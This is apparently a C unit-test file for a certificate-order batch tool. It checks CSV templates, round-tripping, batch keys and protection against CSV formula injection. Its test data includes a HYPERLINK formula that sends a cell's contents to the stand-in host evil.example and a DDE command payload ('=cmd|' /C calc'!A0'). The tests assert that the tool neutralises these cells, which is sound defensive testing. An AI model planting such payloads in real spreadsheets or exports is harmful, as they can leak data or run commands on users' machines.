/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "config.h"

#include <string.h>

#include "pkio-csv.h"
#include "pkio-custom-fields.h"

#include "batch-test-util.h"

/* What a batch writes: the template (read back, the seed's first example) and the results
 * file (CSV injection: formula cells protected, and read back unchanged), and the content
 * keys a batch started again is known by. */

static void
check_template (PkioBatchLanguage  language,
                char               separator,
                const char        *first_names)
{
  g_autoptr(GString) out = g_string_new (NULL);
  g_autoptr(PkioBatch) batch = NULL;
  g_autofree char *problems = NULL;
  g_autofree char *body = NULL;
  g_autofree char *seed = batch_test_fixture_body ("seed-details.json");

  pkio_batch_write_template (out, language, NULL);
  g_test_message ("%s", out->str);
  g_assert_true (g_str_has_prefix (out->str, "\xef\xbb\xbf"));
  g_assert_true (g_str_has_prefix (out->str + 3, first_names));
  g_assert_true (g_str_has_suffix (out->str, "\r\n"));
  /* The telephone number would be a formula in a spreadsheet without its '. */
  g_assert_nonnull (strstr (out->str, "'+31(0)20 254 7999"));
  /* The last column is the agreement: no other. */
  g_assert_true (g_str_has_suffix (out->str, language == PKIO_BATCH_DUTCH ? ";ja\r\n"
                                                                          : ",yes\r\n"));

  batch = batch_test_read (out->str, (gssize) out->len);
  problems = batch_test_problems (batch);
  g_assert_cmpstr (problems, ==, "");
  g_assert_cmpint (pkio_batch_get_separator (batch), ==, separator);
  g_assert_cmpint (pkio_batch_get_language (batch), ==, language);
  g_assert_cmpint (pkio_batch_get_encoding (batch), ==, PKIO_BATCH_ENCODING_UTF8_BOM);
  g_assert_cmpuint (pkio_batch_get_n_rows (batch), ==, 1);
  body = batch_test_body (pkio_batch_get_row (batch, 0)->order);
  g_assert_cmpstr (body, ==, seed);
}

static void
test_template (void)
{
  check_template (PKIO_BATCH_ENGLISH, ',', "Profile,Signature,CertCentral number,First name,");
  check_template (PKIO_BATCH_DUTCH, ';', "Profiel;Handtekening;CertCentral-nummer;Voornaam;");
}

/* With the account's own order fields: one column per active field, headed by its label, in
 * the account's order; the example row leaves the optional ones empty and gives the required
 * ones a value of their type, so that it reads back (pkio_batch_read_for_fields ()) as one
 * valid order carrying those values. */
static void
check_template_fields (PkioBatchLanguage  language,
                       const char        *columns,
                       const char        *values)
{
  g_autoptr(GPtrArray) fields = pkio_custom_field_list_new ();
  g_autoptr(GString) out = g_string_new (NULL);
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(GDateTime) now = batch_test_now ();
  g_autoptr(GError) error = NULL;
  g_autoptr(PkioBatch) batch = NULL;
  g_autofree char *problems = NULL;
  g_autofree char *body = NULL;
  g_autofree char *header = NULL;
  const char *header_end;

  g_ptr_array_add (fields, pkio_custom_field_new (11, "Cost centre", FALSE, TRUE, "text"));
  g_ptr_array_add (fields, pkio_custom_field_new (12, "Ticket; number", TRUE, TRUE, "int"));
  g_ptr_array_add (fields, pkio_custom_field_new (13, "Old code", TRUE, FALSE, "text"));
  g_ptr_array_add (fields, pkio_custom_field_new (14, "Manager", TRUE, TRUE, "email_address"));
  g_ptr_array_add (fields, pkio_custom_field_new (15, "Copies to", TRUE, TRUE, "email_list"));
  g_ptr_array_add (fields, pkio_custom_field_new (16, "Project", TRUE, TRUE, NULL));
  /* A label that is a fixed column's name: its column is marked, "E-mail (own field)". */
  g_ptr_array_add (fields, pkio_custom_field_new (17, "E-mail", TRUE, TRUE, "text"));
  /* Labels the reader could not tell from another's: no column of their own. */
  g_ptr_array_add (fields, pkio_custom_field_new (18, "cost-centre", TRUE, TRUE, "text"));
  g_ptr_array_add (fields, pkio_custom_field_new (19, "()", FALSE, TRUE, "text"));

  pkio_batch_write_template (out, language, fields);
  g_test_message ("%s", out->str);
  header_end = strstr (out->str, "\r\n");
  g_assert_nonnull (header_end);
  header = g_strndup (out->str, header_end - out->str);
  g_assert_true (g_str_has_suffix (header, columns));
  g_assert_true (g_str_has_suffix (out->str, values));

  bytes = g_bytes_new (out->str, out->len);
  batch = pkio_batch_read_for_fields (bytes, fields, now, &error);
  g_assert_no_error (error);
  /* 18 is required and has no column of its own: the reader says so. The fields the
   * template gives columns to have none. */
  problems = batch_test_problems (batch);
  g_assert_cmpstr (problems, ==, "1: missing_column\n");
  g_ptr_array_remove_range (fields, 7, 2);
  g_clear_object (&batch);
  batch = pkio_batch_read_for_fields (bytes, fields, now, &error);
  g_assert_no_error (error);
  g_clear_pointer (&problems, g_free);
  problems = batch_test_problems (batch);
  g_assert_cmpstr (problems, ==, "");
  g_assert_cmpint (pkio_batch_get_language (batch), ==, language);
  g_assert_cmpuint (pkio_batch_get_n_rows (batch), ==, 1);
  body = batch_test_body (pkio_batch_get_row (batch, 0)->order);
  g_test_message ("%s", body);
  g_assert_nonnull (strstr (body, "\"custom_fields\":[{\"metadata_id\":12,\"value\":\"4711\"},"
                                  "{\"metadata_id\":14,\"value\":\"name@example.com\"},"
                                  "{\"metadata_id\":15,\"value\":\"anna@example.com, "
                                  "piet@example.com\"},{\"metadata_id\":16,\"value\":\""));
  g_assert_nonnull (strstr (body, "{\"metadata_id\":17,\"value\":\""));
}

static void
test_template_fields (void)
{
  check_template_fields (PKIO_BATCH_ENGLISH,
                         ",Agreement,Cost centre,\"Ticket; number\",Manager,Copies to,Project,"
                         "E-mail (own field)",
                         ",yes,,4711,name@example.com,\"anna@example.com, piet@example.com\","
                         "Example,Example\r\n");
  check_template_fields (PKIO_BATCH_DUTCH,
                         ";Overeenkomst;Cost centre;\"Ticket; number\";Manager;Copies to;Project;"
                         "E-mail (eigen veld)",
                         ";ja;;4711;name@example.com;\"anna@example.com, piet@example.com\";"
                         "Voorbeeld;Voorbeeld\r\n");
}

/* Cells a spreadsheet would run as formulas, and some that only look alike. */
static const char *const tricky[] = {
  "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+31 20 254 7999", "-2+3",
  "@SUM(1+1)", "=1+2", "'s-Gravenhage", "'=quote and formula", "''+two quotes", "\tTab",
  "plain", " spaced ", "Hello, \"world\"",
};

/* The base table's first row, then one row for each tricky value, in Address line 2 and in
 * a custom field's column "Note". */
static char *
tricky_file (void)
{
  g_autofree char *header = batch_test_english_header (',');
  g_autofree char *row = batch_test_base_row (0, ',');
  GString *text = g_string_new (NULL);

  g_string_append_printf (text, "%s,Note\r\n%s,\r\n", header, row);
  for (guint i = 0; i < G_N_ELEMENTS (tricky); i++)
    {
      g_autofree char *last_name = g_strdup_printf ("Number %u", i);
      g_autofree char *email = g_strdup_printf ("p%u@example.com", i);
      g_autofree char *phone = g_strdup_printf ("+31 20 254 79%02u", i);
      g_autofree char *note = g_strconcat ("x", tricky[i], NULL);
      const char *cells[] = {
        "encryption", "RSA", "", "P", last_name, email, phone, "nl", "Utrecht", "Utrecht",
        "3511 AB", "P", "Domplein 1", tricky[i], "3511 AB", "Utrecht", "Utrecht", "nl", "", "",
        "", "yes", note,
      };

      pkio_csv_append_record (text, cells, G_N_ELEMENTS (cells), ',');
    }
  return g_string_free (text, FALSE);
}

/* The results file: the input with "Order", "Status" and "Message"; formula cells get a ';
 * read back, the very same cells and orders. */
static void
test_results_injection_round_trip (void)
{
  g_autofree char *text = tricky_file ();
  const char * const labels[] = { "Note", NULL };
  g_autoptr(PkioBatch) batch = batch_test_read_custom (text, -1, labels);
  g_autoptr(PkioBatch) again = NULL;
  g_autoptr(GString) out = g_string_new (NULL);
  g_autoptr(GString) out_again = g_string_new (NULL);
  g_autofree PkioBatchResult *results = NULL;
  g_autofree char *keys = NULL;
  g_autofree char *keys_again = NULL;
  guint n = pkio_batch_get_n_rows (batch);

  g_test_message ("%s", text);
  g_assert_cmpuint (n, ==, 1 + G_N_ELEMENTS (tricky));
  for (guint i = 0; i < G_N_ELEMENTS (tricky); i++)
    g_assert_cmpstr (pkio_batch_get_row (batch, i + 1)->order->ship_info.addr2, ==, tricky[i]);

  results = g_new0 (PkioBatchResult, n);
  results[0] = (PkioBatchResult) { 843668399, "placed", "=cmd|' /C calc'!A0" };
  results[1] = (PkioBatchResult) { 0, "rejected", "-Postal code: enter 1013 AA" };
  pkio_batch_write_results (batch, results, out);
  g_test_message ("%s", out->str);

  g_assert_true (g_str_has_prefix (out->str, "\xef\xbb\xbf"));
  g_assert_nonnull (strstr (out->str, ",Note,Order,Status,Message\r\n"));
  g_assert_nonnull (strstr (out->str, ",843668399,placed,\"'=cmd|' /C calc'!A0\"\r\n"));
  g_assert_nonnull (strstr (out->str, ",,rejected,\"'-Postal code: enter 1013 AA\"\r\n"));
  g_assert_nonnull (strstr (out->str, ",\"'+31(0)20 254 7999\","));
  g_assert_nonnull (strstr (out->str, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,"));
  g_assert_nonnull (strstr (out->str, ",\"'@SUM(1+1)\","));
  g_assert_nonnull (strstr (out->str, ",\"'-2+3\","));
  g_assert_nonnull (strstr (out->str, ",\"'=1+2\","));
  g_assert_nonnull (strstr (out->str, ",'s-Gravenhage,"));
  g_assert_nonnull (strstr (out->str, ",\"''=quote and formula\","));
  g_assert_nonnull (strstr (out->str, ",\"'''+two quotes\","));
  g_assert_nonnull (strstr (out->str, ",\"'\tTab\","));
  g_assert_nonnull (strstr (out->str, ",\" spaced \","));
  /* No cell starts a formula, quoted or not. */
  g_assert_null (strstr (out->str, ",\"="));
  g_assert_null (strstr (out->str, ",\"+"));
  g_assert_null (strstr (out->str, ",="));
  g_assert_null (strstr (out->str, ",+"));
  g_assert_null (strstr (out->str, ",@"));

  /* Read back: the same rows, cells and keys; the result columns are known, not refused. */
  again = batch_test_read_custom (out->str, (gssize) out->len, labels);
  keys = batch_test_row_keys (batch);
  keys_again = batch_test_row_keys (again);
  g_assert_cmpstr (keys_again, ==, keys);
  g_assert_cmpstr (pkio_batch_get_key (again), ==, pkio_batch_get_key (batch));
  g_assert_cmpuint (pkio_batch_get_header_problems (again)->len, ==, 0);
  for (guint i = 0; i < G_N_ELEMENTS (tricky); i++)
    {
      const PkioBatchRow *row = pkio_batch_get_row (again, i + 1);
      g_autofree char *note = g_strconcat ("x", tricky[i], NULL);

      g_assert_cmpstr (row->order->ship_info.addr2, ==, tricky[i]);
      g_assert_cmpstr (row->custom_values[0], ==, g_strstrip (note));
    }
  g_assert_cmpstr (pkio_batch_get_row (again, 0)->order->individual.telephone, ==,
                   "+31(0)20 254 7999");

  /* Written again: the result columns are filled in where they are, not added twice. */
  pkio_batch_write_results (again, results, out_again);
  g_assert_cmpstr (out_again->str, ==, out->str);
}

/* The key of a batch and its rows: the same orders, however written; another order,
 * another key. */
static void
test_keys (void)
{
  g_autofree char *header = batch_test_english_header (';');
  g_autofree char *row0 = batch_test_base_row (0, ';');
  g_autofree char *row1 = batch_test_base_row (1, ';');
  g_autofree char *row2 = batch_test_base_row (2, ';');
  g_autofree char *plain = g_strdup_printf ("%s\n%s\n%s\n%s\n", header, row0, row1, row2);
  g_autofree char *reordered = g_strdup_printf ("%s\n%s\n\n%s\n%s\n", header, row2, row0, row1);
  g_autoptr(GString) reworded = g_string_new (plain);
  g_autoptr(GString) changed = g_string_new (plain);
  g_autoptr(PkioBatch) a = batch_test_read (plain, -1);
  g_autoptr(PkioBatch) b = batch_test_read (reordered, -1);
  g_autoptr(PkioBatch) c = NULL;
  g_autoptr(PkioBatch) d = NULL;

  g_assert_cmpstr (pkio_batch_get_key (a), ==, pkio_batch_get_key (b));
  g_assert_cmpstr (pkio_batch_get_row (a, 0)->key, ==, pkio_batch_get_row (b, 1)->key);
  g_assert_cmpuint (strlen (pkio_batch_get_key (a)), ==, 64);

  /* Other words for the same order: spaces, case, the other language, a postal code
   * written without its space. */
  g_string_replace (reworded, ";1 year;balance;yes", "; 1 JAAR ;Tegoed;ja", 1);
  g_string_replace (reworded, ";3511 AB;Utrecht;Utrecht;nl;", ";3511ab;Utrecht;Utrecht;NL;", 1);
  c = batch_test_read (reworded->str, -1);
  g_assert_cmpuint (pkio_batch_count_problems (c), ==, 0);
  g_assert_cmpstr (pkio_batch_get_key (c), ==, pkio_batch_get_key (a));

  g_string_replace (changed, "Suite 20", "Suite 21", 1);
  d = batch_test_read (changed->str, -1);
  g_assert_cmpstr (pkio_batch_get_row (d, 0)->key, !=, pkio_batch_get_row (a, 0)->key);
  g_assert_cmpstr (pkio_batch_get_row (d, 1)->key, ==, pkio_batch_get_row (a, 1)->key);
  g_assert_cmpstr (pkio_batch_get_key (d), !=, pkio_batch_get_key (a));
}

/* Cells written by pkio_csv_append_record() read back as the very same cells, with each
 * separator. */
static void
test_csv_round_trip (void)
{
  const char *cells[] = { "plain", "", "a,b", "a;b", "a\tb", "\"quoted\"", "line\nbreak",
                          "cr\r", " lead", "trail ", "=1", "+1", "-1", "@1", "'=1", "'x",
                          "sep=;", "''", "'", "ë€", NULL };
  const char separators[] = { ',', ';', '\t' };

  for (guint s = 0; s < G_N_ELEMENTS (separators); s++)
    {
      g_autoptr(GString) out = g_string_new (NULL);
      g_autoptr(PkioCsv) csv = NULL;
      g_autoptr(GError) error = NULL;
      guint n = g_strv_length ((char **) cells);

      pkio_csv_append_record (out, cells, n, separators[s]);
      pkio_csv_append_record (out, cells, n, separators[s]);
      csv = pkio_csv_parse (out->str, out->len, '\0', 10, &error);
      g_assert_no_error (error);
      g_assert_cmpint (pkio_csv_get_separator (csv), ==, separators[s]);
      g_assert_cmpuint (pkio_csv_get_n_records (csv), ==, 2);
      for (guint r = 0; r < 2; r++)
        {
          g_assert_cmpuint (pkio_csv_record_n_cells (csv, r), ==, n);
          for (guint c = 0; c < n; c++)
            g_assert_cmpstr (pkio_csv_get_cell (csv, r, c), ==, cells[c]);
        }
    }
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/batch-write/template", test_template);
  g_test_add_func ("/batch-write/template-fields", test_template_fields);
  g_test_add_func ("/batch-write/results-injection-round-trip",
                   test_results_injection_round_trip);
  g_test_add_func ("/batch-write/keys", test_keys);
  g_test_add_func ("/batch-write/csv-round-trip", test_csv_round_trip);

  return g_test_run ();
}
